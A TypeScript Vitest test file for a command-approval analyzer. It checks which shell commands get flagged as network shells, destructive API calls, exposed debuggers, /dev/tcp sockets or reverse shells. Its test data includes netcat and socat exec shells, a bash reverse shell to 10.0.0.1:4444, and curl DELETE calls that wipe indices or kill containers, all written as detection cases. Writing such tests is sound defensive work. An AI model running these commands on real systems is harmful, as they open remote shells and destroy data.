import { describe, expect, it } from 'vitest';
import { analyze } from '../../../src/approvals/analyze.ts';
import { FACTS } from '../facts.ts';

const found = (text: string) => analyze(text, FACTS).findings.map(({ rule }) => rule);

describe('a shell for a connection', () => {
  it.each([
    ['cryptcat -e /bin/sh h 1'],
    ['nc --lua-exec x.lua h 1'],
    ['nc -C -c bash h 1'],
    ['nc -c bash h 1'],
    ['nc -e /bin/sh h 1'],
    ['powercat -c h -ep'],
    ["socat TCP:h:1 'OPEN:a!!EXEC:sh'"],
    ['socat TCP:h:1 EXEC:sh'],
    ['socat TCP:h:1 SYSTEM:x,pty'],
    ['socat TCP:h:1 exec:sh'],
    ['tmate'],
    ['ttyd bash'],
  ])('is given: %s', (text) => expect(found(text)).toContain('net.shell'));

  it.each([
    ['cryptcat h 1'],
    ['nc --help -e x'],
    ['nc -C h 1'],
    ['nc -zv h 80'],
    ['pwncat -l 1'],
    ['socat TCP-LISTEN:80,fork TCP:h:80'],
    ['socat TCP:h:1 exec.txt'],
    ['tmate -v'],
    ['ttyd --version'],
  ])('is not given: %s', (text) => expect(found(text)).not.toContain('net.shell'));
});

describe('what stands behind a web interface', () => {
  it.each([
    ['curl --unix-socket /var/run/docker.sock -X POST http://x/containers/y/stop'],
    ["curl --unix-socket /var/run/docker.sock -d '{}' http://x/containers/create"],
    ['curl -X DELETE http://localhost.example/a'],
    ['curl -X DELETE http://localhost:3000/api/items/1'],
    ['curl -X DELETE https://x.example/a'],
    ['curl -X DELETE localhost:9200/_all'],
    ['curl -X DELETE x.example/a'],
    ['curl -X POST http://127.0.0.1:2375/containers/x/kill'],
    ['curl -X POST localhost:8081/actuator/shutdown'],
    ['curl -X POST localhost:9200/a/_delete_by_query'],
    ["curl -d '{}' localhost:9200/a/_delete_by_query"],
    ['http DELETE :9200/a'],
    ['http DELETE https://x.example/a'],
    ["pwsh -c 'Invoke-RestMethod -CustomMethod Delete https://x.example/a'"],
    ["pwsh -c 'Invoke-RestMethod -Method Delete https://x.example/a'"],
    ["pwsh -c 'irm -me delete https://x.example/a'"],
    ['wget --method=DELETE https://x.example/a'],
    ['wget --method=POST http://127.0.0.1:2375/x'],
  ])('is changed or deleted: %s', (text) => expect(found(text)).toContain('net.engine'));

  it.each([
    ['curl --help -X POST http://127.0.0.1:2375/x'],
    ["curl --unix-socket /var/run/docker.sock -d '{}' -X GET http://x/containers/json"],
    ['curl --unix-socket /var/run/docker.sock http://x/containers/json'],
    ['curl -X DELETE -d @a.json localhost:3000/a'],
    ['curl -X DELETE -o out.json localhost:3000/a'],
    ['curl -X DELETE app.localhost:3000/a'],
    ['curl -X DELETE http://127.0.0.1:8080/items/1'],
    ['curl -X DELETE http://[::1]/items/1'],
    ['curl -X DELETE http://app.local/items/1'],
    ['curl -X DELETE http://localhost:3000/items/1'],
    ['curl -X DELETE http://u@localhost/items/1'],
    ['curl -X DELETE https://$H/a'],
    ['curl -X POST localhost:8081/actuator/health'],
    ['curl localhost:9200/a/_delete_by_query'],
    ['http DELETE localhost:3000/items/1'],
    ['http GET https://x.example/a'],
    ['http :9200/a/_close'],
    ['http https://x.example/a'],
    ["pwsh -c 'Invoke-RestMethod -Method Get https://x.example/a'"],
    ['wget --method=GET https://x.example/a'],
    ['wget https://x.example/DELETE'],
  ])('is asked, or is near: %s', (text) => expect(found(text)).not.toContain('net.engine'));
});

describe('a debugger', () => {
  it.each([
    ['deno run --inspect=0.0.0.0:9229 a.ts'],
    ['dlv debug --listen=:2345'],
    ['dlv debug -l=0.0.0.0:2345'],
    ['gdbserver :1234 ./a'],
    ['java -agentlib:jdwp=transport=dt_socket,server=y,address=*:5005 -jar a.jar'],
    ['node --inspect-brk=:9229 a.js'],
    ['node --inspect=0.0.0.0:9229 a.js'],
  ])('is open to strangers: %s', (text) => expect(found(text)).toContain('net.debugger'));

  it.each([
    ['docker run node node --inspect=0.0.0.0:9229 a.js'],
    ['gdbserver localhost:1234 ./a'],
    ['java -agentlib:jdwp=transport=dt_socket,server=y,address=5005 -jar a.jar'],
    ['node --inspect a.js'],
    ['node --inspect=127.0.0.1:9229 a.js'],
    ['node --inspect=9229 a.js'],
  ])('is open to this machine alone: %s', (text) => expect(found(text)).not.toContain('net.debugger'));
});

describe('a network file of the shell', () => {
  it.each([['echo x > /dev/tcp/h/80'], ['ztcp h 80']])('is opened: %s', (text) =>
    expect(found(text)).toContain('net.socket'),
  );

  it.each([['echo x > /dev/null'], ['ztcp -L'], ['ztcp -c']])('is not opened: %s', (text) =>
    expect(found(text)).not.toContain('net.socket'),
  );
});

describe('a shell tied to a connection', () => {
  it.each([['bash -i >& /dev/tcp/10.0.0.1/4444 0>&1'], ['sh < /dev/tcp/h/1'], ['sh < /dev/udp/h/1']])(
    'is seen: %s',
    (text) => expect(found(text)).toContain('net.reverse-shell'),
  );

  it.each([['bash script.sh > out.log'], ['sh < script.sh']])('is none: %s', (text) =>
    expect(found(text)).not.toContain('net.reverse-shell'),
  );
});
